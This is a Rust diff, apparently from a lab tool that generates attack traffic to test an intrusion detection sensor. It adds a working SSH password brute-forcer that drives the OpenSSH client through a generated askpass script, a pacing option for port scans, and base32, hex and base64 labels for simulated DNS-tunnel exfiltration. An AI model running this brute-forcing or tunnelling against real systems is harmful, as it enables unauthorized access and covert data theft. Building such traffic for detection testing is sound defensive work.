@@ -3,6 +3,8 @@
 
 use std::io::{self, BufRead, BufReader, Read, Write};
 use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
+use std::path::Path;
+use std::process::{Command, Stdio};
 use std::time::{Duration, Instant};
 
 use socket2::{Domain, Protocol, SockAddr, Socket, Type};
@@ -10,7 +12,7 @@ use socket2::{Domain, Protocol, SockAddr, Socket, Type};
 use super::packets::{self, Rng};
 use super::{
     expand_ports, ActiveScan, BruteForce, DnsTunnel, Exploit, ExploitKind, HttpBeacon, IcmpExfil,
-    LoginService, PortScan, QueryType, ScanProtocol, SynFlood, Technique,
+    LabelEncoding, LoginService, PortScan, ScanProtocol, SynFlood, Technique,
 };
 
 /// `(sent, failures, unit)` or `(what failed, why)`.
@@ -92,7 +94,10 @@ fn fail(action: impl Into<String>) -> impl FnOnce(io::Error) -> (String, io::Err
 fn port_scan(s: &PortScan, target: IpAddr, deadline: Instant) -> SendResult {
     let ports = expand_ports(&s.ports).map_err(|m| (m, io::ErrorKind::InvalidInput.into()))?;
     let timeout = Duration::from_millis(s.timeout_ms);
-    let mut pacer = Pacer::new(s.rate_per_sec, deadline);
+    let mut pacer = match s.interval_ms {
+        Some(ms) => Pacer::every(Duration::from_millis(ms), deadline),
+        None => Pacer::new(s.rate_per_sec, deadline),
+    };
     let mut sent = 0;
     match s.protocol {
         ScanProtocol::Tcp => {
@@ -214,6 +219,7 @@ fn brute_force(b: &BruteForce, target: IpAddr, deadline: Instant) -> SendResult 
             });
             requests(target, port, timeout, pacer, reqs)
         }
+        LoginService::Ssh => ssh_brute_force(b, target, timeout, pacer),
         LoginService::Banner => {
             let port = b.port.unwrap_or(21);
             let (mut sent, mut failures) = (0, 0);
@@ -235,6 +241,145 @@ fn brute_force(b: &BruteForce, target: IpAddr, deadline: Instant) -> SendResult 
             }
             Ok((sent, failures, "logins"))
         }
+    }
+}
+
+/// Answers ssh's password prompts (SSH_ASKPASS) with the guesses in `$IDS2_LAB_GUESSES`, one
+/// line per prompt, counting prompts in the file `$IDS2_LAB_PROMPTS`.
+const ASKPASS: &str = r#"#!/bin/sh
+n=$(cat "$IDS2_LAB_PROMPTS" 2>/dev/null || echo 0)
+echo $((n + 1)) >"$IDS2_LAB_PROMPTS"
+printf '%s\n' "$IDS2_LAB_GUESSES" | sed -n "$((n + 1))p"
+"#;
+
+/// SSH password guessing with the real OpenSSH client: one `ssh` per connection, answering
+/// `guesses_per_connection` password prompts from the list, so the sensor sees what hydra or
+/// medusa make: a key exchange, a few encrypted failures, a disconnect, again.
+fn ssh_brute_force(
+    b: &BruteForce,
+    target: IpAddr,
+    timeout: Duration,
+    mut pacer: Pacer,
+) -> SendResult {
+    let port = b.port.unwrap_or(22);
+    let dir = tempfile::tempdir().map_err(fail("create a directory for ssh's askpass"))?;
+    let askpass = dir.path().join("askpass");
+    std::fs::write(&askpass, ASKPASS).map_err(fail("write ssh's askpass"))?;
+    {
+        use std::os::unix::fs::PermissionsExt as _;
+        std::fs::set_permissions(&askpass, std::fs::Permissions::from_mode(0o700))
+            .map_err(fail("make ssh's askpass executable"))?;
+    }
+    let per = b.guesses_per_connection as usize;
+    let (mut guessed, mut failures) = (0u64, 0u64);
+    let mut next = 0usize;
+    while next < b.attempts as usize {
+        if !pacer.next() {
+            break;
+        }
+        let n = per.min(b.attempts as usize - next);
+        let guesses: Vec<&str> = (next..next + n)
+            .map(|i| PASSWORDS[i % PASSWORDS.len()])
+            .collect();
+        next += n;
+        let prompts = dir.path().join(format!("prompts-{next}"));
+        match ssh_login(
+            target,
+            port,
+            &b.username,
+            &guesses,
+            timeout,
+            &askpass,
+            &prompts,
+        ) {
+            Ok(()) => guessed += n as u64,
+            Err((action, e))
+                if guessed == 0 && failures == 0 && e.kind() == io::ErrorKind::NotFound =>
+            {
+                return Err((action, e))
+            }
+            Err(_) => failures += 1,
+        }
+    }
+    if guessed == 0 && failures > 0 {
+        return Err((
+            format!("log in over SSH to {}", SocketAddr::new(target, port)),
+            io::ErrorKind::ConnectionRefused.into(),
+        ));
+    }
+    Ok((guessed, failures, "guesses"))
+}
+
+/// One `ssh` connection trying `guesses`; Ok once ssh has asked for every one of them (a
+/// refused login), an error when it could not run or never reached the password prompts.
+fn ssh_login(
+    target: IpAddr,
+    port: u16,
+    user: &str,
+    guesses: &[&str],
+    timeout: Duration,
+    askpass: &Path,
+    prompts: &Path,
+) -> Result<(), (String, io::Error)> {
+    let secs = timeout.as_secs().max(1).to_string();
+    let mut child = Command::new("ssh")
+        .args(["-F", "/dev/null", "-T", "-n"])
+        .args(["-o", "StrictHostKeyChecking=no"])
+        .args(["-o", "UserKnownHostsFile=/dev/null"])
+        .args(["-o", "GlobalKnownHostsFile=/dev/null"])
+        .args(["-o", "LogLevel=QUIET"])
+        .args(["-o", "PreferredAuthentications=password"])
+        .args(["-o", "PubkeyAuthentication=no"])
+        .arg("-o")
+        .arg(format!("NumberOfPasswordPrompts={}", guesses.len()))
+        .arg("-o")
+        .arg(format!("ConnectTimeout={secs}"))
+        .arg("-p")
+        .arg(port.to_string())
+        .arg("-l")
+        .arg(user)
+        .arg(target.to_string())
+        .arg("true")
+        .env("SSH_ASKPASS", askpass)
+        .env("SSH_ASKPASS_REQUIRE", "force")
+        .env("DISPLAY", ":0")
+        .env("IDS2_LAB_GUESSES", guesses.join("\n"))
+        .env("IDS2_LAB_PROMPTS", prompts)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .map_err(fail("run ssh (Debian's openssh-client)"))?;
+    // Bounded: a login that hangs is killed after its connect timeout plus the guesses' time.
+    let until = Instant::now() + timeout * 2 + Duration::from_secs(2 * guesses.len() as u64);
+    loop {
+        match child.try_wait() {
+            Ok(Some(_)) => break,
+            Ok(None) if Instant::now() < until => std::thread::sleep(Duration::from_millis(20)),
+            _ => {
+                let _ = child.kill();
+                let _ = child.wait();
+                break;
+            }
+        }
+    }
+    let asked = std::fs::read_to_string(prompts)
+        .ok()
+        .and_then(|n| n.trim().parse::<usize>().ok())
+        .unwrap_or(0);
+    if asked >= guesses.len() {
+        Ok(())
+    } else {
+        Err((
+            format!(
+                "reach sshd's password prompt on {}",
+                SocketAddr::new(target, port)
+            ),
+            io::Error::other(format!(
+                "ssh asked for {asked} of {} passwords",
+                guesses.len()
+            )),
+        ))
     }
 }
 
@@ -283,10 +428,7 @@ fn beacon(b: &HttpBeacon, target: IpAddr, deadline: Instant) -> SendResult {
 
 fn dns_tunnel(d: &DnsTunnel, target: IpAddr, deadline: Instant) -> SendResult {
     let sock = UdpSocket::bind(unspecified(target, 0)).map_err(fail("bind a UDP socket"))?;
-    let qtype = match d.query_type {
-        QueryType::A => packets::QTYPE_A,
-        QueryType::Txt => packets::QTYPE_TXT,
-    };
+    let qtype = d.query_type.code();
     let mut rng = Rng::from_clock();
     let mut pacer = Pacer::new(d.rate_per_sec, deadline);
     let mut sent = 0;
@@ -294,8 +436,7 @@ fn dns_tunnel(d: &DnsTunnel, target: IpAddr, deadline: Instant) -> SendResult {
         if !pacer.next() {
             break;
         }
-        // Base32-like labels, as dnscat2 and iodine encode their data.
-        let label = rng.string(b"abcdefghijklmnopqrstuvwxyz234567", d.label_len);
+        let label = encoded_label(&mut rng, d.encoding, d.label_len);
         let query = packets::dns_query(
             rng.next_u64() as u16,
             &format!("{label}.{}", d.domain),
@@ -306,6 +447,22 @@ fn dns_tunnel(d: &DnsTunnel, target: IpAddr, deadline: Instant) -> SendResult {
         sent += 1;
     }
     Ok((sent, 0, "queries"))
+}
+
+/// A label of `len` characters carrying random "data" in `encoding`.
+fn encoded_label(rng: &mut Rng, encoding: LabelEncoding, len: usize) -> String {
+    match encoding {
+        LabelEncoding::Base32 => rng.string(b"abcdefghijklmnopqrstuvwxyz234567", len),
+        LabelEncoding::Hex => rng.string(b"0123456789abcdef", len),
+        LabelEncoding::Base64 => {
+            // A chunk of bytes one short of a multiple of three, encoded as a tunnel sends it:
+            // `=` padding at the end, `+` and `/` wherever the data has them (at most `len`
+            // characters; `len` is at least 4 for base64).
+            let n = (len / 4 * 3).saturating_sub(1).max(1);
+            let bytes: Vec<u8> = (0..n).map(|_| rng.next_u64() as u8).collect();
+            packets::base64(&bytes)
+        }
+    }
 }
 
 fn exploit(e: &Exploit, target: IpAddr, deadline: Instant) -> SendResult {
